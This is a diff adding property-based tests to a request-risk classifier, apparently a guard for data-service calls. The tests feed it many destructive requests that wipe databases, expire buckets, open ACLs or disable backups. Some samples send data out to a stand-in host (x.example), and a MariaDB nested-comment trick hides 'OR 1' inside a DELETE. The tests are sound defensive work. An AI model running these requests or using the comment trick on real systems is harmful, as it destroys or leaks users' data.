@@ -4184,3 +4184,128 @@ t.test('twenty-eighth pass: a Trino or Presto role header is the SET ROLE it sta
   t.equal((await statement([])).decision.approval?.risk, 'medium', 'control: no role header');
   t.equal((await statement([['X-Trino-Role', 'system=NONE']])).decision.approval?.risk, 'medium', 'control: NONE');
 });
+
+t.test('twenty-ninth pass: data services whose destructive operations are not SQL statements are read in their own language', async (t) => {
+  // Each was a plain medium write (or held high as an unread body) on a host no module owns, while
+  // its SQL twin is critical: SurrealQL's `DELETE user` (every record; no SQL grammar reads it),
+  // `REMOVE TABLE`, `DEFINE USER … ROLES OWNER`, its RPC and key API; a Realtime Database tree
+  // replaced or deleted (`PUT /.json`, `?x-http-method-override=DELETE`); an S3 lifecycle rule that
+  // expires every object, a bucket policy or ACL, versioning suspended; GCS's `Delete` lifecycle;
+  // InfluxDB's `_measurement` predicate over all time, `time < now()`, a bucket's retention, a Flux
+  // script posting the data out; DynamoDB's Time to Live; pg_graphql on a self-hosted host;
+  // Meilisearch's and Typesense's filter deletes every document meets, truncation, swaps and keys;
+  // Elasticsearch's retention (ILM, ISM, data stream lifecycle), snapshot deletes and its guard off.
+  const h = `https://${SQL_HOST}`;
+  const json = (method: string, url: string, o: unknown, headers: Array<[string, string]> = []) => ({ method, url, headers: [['Content-Type', 'application/json'], ...headers] as Array<[string, string]>, body: JSON.stringify(o) });
+  const text = (url: string, body: string, headers: Array<[string, string]> = []) => ({ method: 'POST', url, headers: [['Content-Type', 'text/plain'], ...headers] as Array<[string, string]>, body });
+  const xml = (url: string, body: string) => ({ method: 'PUT', url, headers: [['Content-Type', 'application/xml']] as Array<[string, string]>, body });
+  const dynamo = (op: string, o: unknown) => json('POST', `${h}/`, o, [['X-Amz-Target', `DynamoDB_20120810.${op}`]]);
+  const lifecycle = (filter: string, exp = '<Expiration><Days>1</Days></Expiration>') => `<?xml version="1.0"?><LifecycleConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Rule><ID>r</ID>${filter}<Status>Enabled</Status>${exp}</Rule></LifecycleConfiguration>`;
+  const azurePolicy = (prefixMatch: string[] | undefined) => json('PUT', `${h}/subscriptions/s/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/acct/managementPolicies/default?api-version=2023-01-01`,
+    { properties: { policy: { rules: [{ enabled: true, name: 'r', type: 'Lifecycle', definition: { actions: { baseBlob: { delete: { daysAfterModificationGreaterThan: 0 } } }, filters: { blobTypes: ['blockBlob'], ...(prefixMatch ? { prefixMatch } : {}) } } }] } } });
+  const surreal = fc.constantFrom('DELETE user;', 'delete FROM user', 'DELETE ONLY user RETURN NONE', 'DELETE user WHERE true', 'DELETE user WHERE email != NONE', 'DELETE user:..', 'DELETE user:tobie, post',
+    'REMOVE TABLE user', 'remove table if exists user', 'REMOVE DATABASE app', 'REMOVE FIELD email ON TABLE user', 'DEFINE USER eve ON ROOT PASSWORD \'x\' ROLES OWNER', 'DEFINE TABLE user PERMISSIONS FULL',
+    'UPDATE user SET role = \'admin\'', 'UPSERT user MERGE {role: \'admin\'}', 'UPDATE user:1 SET x = (DELETE user)', 'SELECT http::post(\'https://x.example\', (SELECT * FROM user)) FROM ONLY 1',
+    '-- a note; with a semicolon\nDELETE \u27e8user\u27e9', 'DELETE user:tobie; # x\nREMOVE TABLE post', 'DEFINE EVENT e ON user WHEN true THEN { DELETE post }');
+  const attacks = fc.oneof(
+    fc.tuple(surreal, fc.constantFrom<Array<[string, string]>>([['surreal-ns', 'app'], ['surreal-db', 'app']], [['NS', 'app'], ['DB', 'app']], [])).map(([q, hs]) => text(`http://${SQL_HOST}:8000/sql`, q, hs)),
+    surreal.map((q) => json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'query', params: [q] })),
+    fc.constantFrom(
+      json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'delete', params: ['user'] }), json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'merge', params: ['user', { role: 'admin' }] }),
+      { method: 'DELETE', url: `http://${SQL_HOST}:8000/key/user` },
+      json('PUT', `${h}/.json`, { a: 1 }), { method: 'DELETE', url: `${h}/.json` }, json('PATCH', `${h}/.json`, { users: null }), json('POST', `${h}/.json?x-http-method-override=DELETE`, {}),
+      { method: 'DELETE', url: `${h}/users.json?ns=demo` }, json('PUT', `${h}/users.json?ns=demo-default-rtdb`, {}), json('POST', `${h}/users.json?ns=demo&x-http-method-override=DELETE`, null),
+      xml(`${h}/bucket?lifecycle`, lifecycle('<Filter></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><Prefix></Prefix></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Prefix/>')),
+      xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><!-- <Prefix>tmp/</Prefix> --></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter/>', '<NoncurrentVersionExpiration><NoncurrentDays>1</NoncurrentDays></NoncurrentVersionExpiration>')),
+      json('PUT', `${h}/bucket?policy`, { Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:*', Resource: 'arn:aws:s3:::bucket/*' }] }), { method: 'PUT', url: `${h}/bucket?acl`, headers: [['x-amz-acl', 'public-read-write']] as Array<[string, string]> },
+      xml(`${h}/bucket?versioning`, '<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>'),
+      json('PATCH', `${h}/storage/v1/b/bucket`, { lifecycle: { rule: [{ action: { type: 'Delete' }, condition: { age: 0 } }] } }),
+      azurePolicy(undefined), azurePolicy(['logs']), json('PUT', `${h}/storage/v1/b/bucket/iam`, { bindings: [{ role: 'roles/storage.objectViewer', members: ['allUsers'] }] }),
+      json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu"' }),
+      { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE FROM cpu WHERE time < now()')}` }, { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE WHERE now() >= time')}` },
+      json('PATCH', `http://${SQL_HOST}:8086/api/v2/buckets/0a1b`, { retentionRules: [{ type: 'expire', everySeconds: 1 }] }),
+      { method: 'POST', url: `http://${SQL_HOST}:8086/api/v2/query?org=o`, headers: [['Content-Type', 'application/vnd.flux']] as Array<[string, string]>, body: 'import "http"\nfrom(bucket: "b") |> range(start: 0) |> map(fn: (r) => ({r with s: http.post(url: "https://x.example", data: bytes(v: r._value))}))' },
+      json('POST', `http://${SQL_HOST}:8086/api/v2/query?org=o`, { query: 'from(bucket: "b") |> range(start: 0) |> to(bucket: "b", host: "https://x.example", token: "t")', type: 'flux' }),
+      dynamo('UpdateTimeToLive', { TableName: 'users', TimeToLiveSpecification: { Enabled: true, AttributeName: 'created_at' } }), dynamo('UpdateContinuousBackups', { TableName: 'users', PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: false } }),
+      json('POST', `${h}/graphql/v1`, { query: 'mutation { deleteFromUsersCollection(atMost: 1000) { affectedCount } }' }), json('POST', `${h}/graphql`, { query: 'mutation M($f: UsersFilter) { x: updateUsersCollection(set: {role: "admin"}, filter: $f, atMost: 1000) { affectedCount } }', variables: { f: { id: { gt: 0 } } } }),
+      json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'id > 0' }), json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'id EXISTS' }),
+      json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: ['genre = horror OR id IS NOT NULL'] }), json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'NOT id NOT EXISTS' }),
+      json('POST', `http://${SQL_HOST}:7700/swap-indexes`, [{ indexes: ['movies', 'empty'] }]), json('POST', `http://${SQL_HOST}:7700/keys`, { actions: ['*'], indexes: ['*'], expiresAt: null }),
+      { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?truncate=true` }, { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?filter_by=${encodeURIComponent('id:>=0')}` },
+      { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?filter_by=${encodeURIComponent('id:* || author:=x')}` }, json('PATCH', `http://${SQL_HOST}:8108/collections/books`, { fields: [{ name: 'title', drop: true }] }),
+      json('PUT', `http://${SQL_HOST}:9200/_ilm/policy/logs`, { policy: { phases: { delete: { min_age: '0ms', actions: { delete: {} } } } } }), json('PUT', `http://${SQL_HOST}:9200/_data_stream/logs/_lifecycle`, { data_retention: '1s' }),
+      json('PUT', `http://${SQL_HOST}:9200/_plugins/_ism/policies/p`, { policy: { states: [{ name: 'd', actions: [{ delete: {} }] }] } }), { method: 'DELETE', url: `http://${SQL_HOST}:9200/_snapshot/repo/nightly` },
+      json('PUT', `http://${SQL_HOST}:9200/_cluster/settings`, { persistent: { action: { destructive_requires_name: false } } }),
+      json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DELETE FROM users WHERE META().id IS NOT MISSING' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'UPDATE `users` SET role = "admin" WHERE type IS VALUED' }),
+      json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DROP COLLECTION app.inventory.users' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'MERGE INTO users USING empty ON KEY empty.k WHEN MATCHED THEN DELETE' }),
+      { method: 'GET', url: `http://${SQL_HOST}:8093/query/service?statement=${encodeURIComponent('DELETE FROM users WHERE email IS NOT MISSING')}` }, { method: 'POST', url: `http://${SQL_HOST}:8091/pools/default/buckets/users/controller/doFlush` },
+      { method: 'POST', url: `http://${SQL_HOST}:3100/loki/api/v1/delete?query=${encodeURIComponent('{job=~".+"}')}&start=0` }, json('POST', `${h}/v1/projects/p/databases/(default):exportDocuments`, { outputUriPrefix: 'gs://x-example' }),
+      json('PATCH', `${h}/v1/projects/p/databases/(default)`, { deleteProtectionState: 'DELETE_PROTECTION_DISABLED' }),
+      { method: 'DELETE', url: `${h}/dbs/app/colls/users` }, { method: 'DELETE', url: `http://${SQL_HOST}:8080/v1/schema/Article` },
+      json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Like', path: ['id'], valueText: '*' } } }),
+      json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Not', operands: [{ operator: 'Equal', path: ['id'], valueText: 'x' }] } } }),
+      json('POST', `http://${SQL_HOST}:19530/v2/vectordb/collections/drop`, { collectionName: 'users' }), json('POST', `http://${SQL_HOST}:19530/v2/vectordb/entities/delete`, { collectionName: 'users', filter: 'id > 0' }),
+      json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { must_not: [{ has_id: [999999] }] } }), json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { min_should: { conditions: [{ key: 'a', match: { value: 1 } }], min_count: 0 } } }),
+    ),
+  );
+  await fc.assert(fc.asyncProperty(attacks, async (r: { method?: string; url: string; headers?: Array<[string, string]>; body?: string }) => {
+    const { decision } = await decide(r);
+    if (decision.approval?.risk !== 'critical') throw new Error(`${r.method} ${r.url} ${r.body ?? ''}: ${decision.action} ${decision.rule}`);
+  }), { numRuns: 40, ...seed });
+  // Controls: one record, a narrow filter, a prefix, a day's window, a cut-off, a read, a write into this server stay medium or allowed.
+  const controls: Array<{ method?: string; url: string; headers?: Array<[string, string]>; body?: string }> = [
+    text(`http://${SQL_HOST}:8000/sql`, 'DELETE user:tobie;'), text(`http://${SQL_HOST}:8000/sql`, 'DELETE user WHERE age < 18', [['surreal-ns', 'app']]), text(`http://${SQL_HOST}:8000/sql`, 'UPDATE user:tobie SET name = \'x\'; CREATE post SET a = 1', [['surreal-ns', 'app']]),
+    text(`http://${SQL_HOST}:8000/sql`, 'SELECT * FROM user WHERE age > 18', [['surreal-ns', 'app']]), json('POST', `http://${SQL_HOST}:8000/rpc`, { id: 1, method: 'delete', params: ['user:tobie'] }), { method: 'DELETE', url: `http://${SQL_HOST}:8000/key/user/tobie` },
+    json('PATCH', `${h}/.json`, { 'users/u1/name': 'x', 'posts/p1': null }), { method: 'DELETE', url: `${h}/users/u1.json?ns=demo` }, json('PUT', `${h}/settings.json`, { a: 1 }),
+    xml(`${h}/bucket?lifecycle`, lifecycle('<Filter><Prefix>tmp/</Prefix></Filter>')), xml(`${h}/bucket?lifecycle`, lifecycle('<Filter/>', '<AbortIncompleteMultipartUpload><DaysAfterInitiation>7</DaysAfterInitiation></AbortIncompleteMultipartUpload>')),
+    { method: 'POST', url: `${h}/bucket?delete`, headers: [['Content-Type', 'application/xml']] as Array<[string, string]>, body: '<Delete><Object><Key>a.txt</Key></Object></Delete>' }, { method: 'PUT', url: `${h}/bucket/a.txt`, body: 'x' },
+    json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu" AND host="a"' }),
+    json('POST', `http://${SQL_HOST}:8086/api/v2/delete?org=o&bucket=b`, { start: '2024-01-01T00:00:00Z', stop: '2024-01-02T00:00:00Z', predicate: '_measurement="cpu"' }),
+    { method: 'POST', url: `http://${SQL_HOST}:8086/query?q=${encodeURIComponent('DELETE FROM cpu WHERE time < now() - 30d')}` }, json('PATCH', `http://${SQL_HOST}:8086/api/v2/buckets/0a1b`, { retentionRules: [{ type: 'expire', everySeconds: 0 }] }),
+    json('POST', `http://${SQL_HOST}:8086/api/v2/query?org=o`, { query: 'from(bucket: "b") |> range(start: -1h) |> to(bucket: "b2")', type: 'flux' }),
+    dynamo('UpdateTimeToLive', { TableName: 'users', TimeToLiveSpecification: { Enabled: false, AttributeName: 'expires_at' } }),
+    json('POST', `${h}/graphql/v1`, { query: 'mutation { deleteFromUsersCollection(filter: {id: {eq: 5}}) { affectedCount } }' }),
+    json('POST', `http://${SQL_HOST}:7700/indexes/movies/documents/delete`, { filter: 'genre = horror AND year 1990 TO 2000' }), { method: 'DELETE', url: `http://${SQL_HOST}:8108/collections/books/documents?filter_by=${encodeURIComponent('author:=x && year:[1990..2000]')}` },
+    json('POST', `http://${SQL_HOST}:7700/indexes/movies/search`, { q: 'drop', filter: 'id > 0' }),
+    json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'DELETE FROM users WHERE email = "a@b.example"' }), json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'UPSERT INTO users (KEY, VALUE) VALUES ("k", {"a": 1})' }),
+    json('POST', `http://${SQL_HOST}:8093/query/service`, { statement: 'SELECT * FROM users USE KEYS "u1"' }),
+    json('DELETE', `http://${SQL_HOST}:8080/v1/batch/objects`, { match: { class: 'Article', where: { operator: 'Equal', path: ['title'], valueText: 'x' } } }), azurePolicy(['logs/tmp']),
+    json('POST', `http://${SQL_HOST}:19530/v2/vectordb/entities/delete`, { collectionName: 'users', filter: 'id in [1, 2]' }), json('POST', `http://${SQL_HOST}:6333/collections/users/points/delete`, { filter: { must: [{ has_id: [7] }] } }), { method: 'POST', url: `http://${SQL_HOST}:3100/loki/api/v1/delete?query=${encodeURIComponent('{app="web"} |= "token"')}&start=0` }, json('PUT', `http://${SQL_HOST}:9200/_ilm/policy/logs`, { policy: { phases: { hot: { actions: { rollover: { max_age: '1d' } } } } } }),
+  ];
+  for (const r of controls) {
+    const { decision } = await decide(r);
+    t.ok(decision.action === 'allow' || decision.approval?.risk === 'medium', `control: ${r.method} ${r.url} ${r.body ?? ''} (${decision.action} ${decision.approval?.risk ?? ''})`);
+  }
+  // Trino's Hive connector: a session property that makes each later INSERT replace the partitions it writes, by SET SESSION or a header.
+  const trino = (headers: Array<[string, string]>, sql: string) => decide(text(`${h}/v1/statement`, sql, headers));
+  for (const [hs, sql] of [[[], "SET SESSION hive.insert_existing_partitions_behavior = 'OVERWRITE'"], [[['X-Trino-Session', 'hive.insert_existing_partitions_behavior=OVERWRITE']], 'INSERT INTO hive.web.events SELECT * FROM hive.web.staging'],
+    [[['X-Presto-Session', 'query_max_run_time=1h,lake.insert_existing_partitions_behavior=%4Fverwrite']], 'INSERT INTO lake.web.events VALUES (1)']] as Array<[Array<[string, string]>, string]>) {
+    t.equal((await trino(hs, sql)).decision.approval?.risk, 'critical', `Trino ${JSON.stringify(hs)} ${sql}`);
+  }
+  for (const [hs, sql] of [[[['X-Trino-Session', 'query_max_run_time=1h']], 'SELECT 1'], [[['X-Trino-Session', 'hive.insert_existing_partitions_behavior=APPEND']], 'INSERT INTO hive.web.events VALUES (1)']] as Array<[Array<[string, string]>, string]>) {
+    t.equal((await trino(hs, sql)).decision.approval?.risk, 'medium', `control: Trino ${JSON.stringify(hs)} ${sql}`);
+  }
+  // TimescaleDB's and pg_partman's retention on PostgreSQL endpoints: every chunk older than now, or a retention from then on.
+  for (const [url, sql] of [[NEON, "SELECT drop_chunks('conditions', older_than => now())"], [SUPABASE, "SELECT public.add_retention_policy('conditions', INTERVAL '1 day')"], [GENERIC, "SELECT partman.drop_partition_time('public.events', '1 day')"]]) {
+    t.equal((await decide({ url: url!, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) })).decision.approval?.risk, 'critical', `${url!.slice(8, 30)} ${sql}`);
+  }
+  t.equal((await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: "SELECT show_chunks('conditions')" }) })).decision.approval?.risk ?? 'allow', 'medium', 'control: show_chunks (a function nobody proves read-only)');
+});
+
+t.test('twenty-ninth pass: MariaDB runs an executable comment opened inside another, and one */ closes both', async (t) => {
+  // `DELETE FROM users WHERE id = 1 /*!50000 AND 1 /*!50000 OR 1 */` deleted every row of a real
+  // MariaDB 10.11 (checked by hand, with `/*M!`, bare `/*!`, and ` -- */` after for PostgreSQL's
+  // nested comments), while every reading Airlock made took the inner one for a plain comment: a
+  // narrow medium write on an endpoint of unknown dialect.
+  const marker = fc.constantFrom('/*!50000', '/*M!100100', '/*!', '/*M!', '/*!100000');
+  await fc.assert(fc.asyncProperty(marker, marker, fc.constantFrom('OR 1', 'OR TRUE', 'OR id > 0', 'OR id = id'), fc.constantFrom('', ' -- */'), fc.constantFrom('DELETE FROM users', "UPDATE users SET role = 'admin'"), fc.boolean(), async (outer, inner, hidden, tail, head, get) => {
+    const sql = `${head} WHERE id = 1 ${outer} AND 1 ${inner} ${hidden} */${tail}`;
+    const r = get ? { method: 'GET', url: `${GENERIC}?sql=${encodeURIComponent(sql)}` } : { url: GENERIC, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ sql }) };
+    const { decision } = await decide(r);
+    if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule}`);
+  }), { numRuns: 20, ...seed });
+  // Controls: one executable comment, and a plain comment inside one, name one row (MariaDB deleted one).
+  for (const sql of ['DELETE FROM users WHERE id = 1 /*!50000 AND 1 */', 'DELETE FROM users WHERE id = 1 /*!50000 AND 1 /* OR 1 */ */', 'DELETE FROM users WHERE id = 1 /*M! AND email = \'a\' */']) {
+    t.equal((await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) })).decision.approval?.risk, 'medium', `control: ${sql}`);
+  }
+});
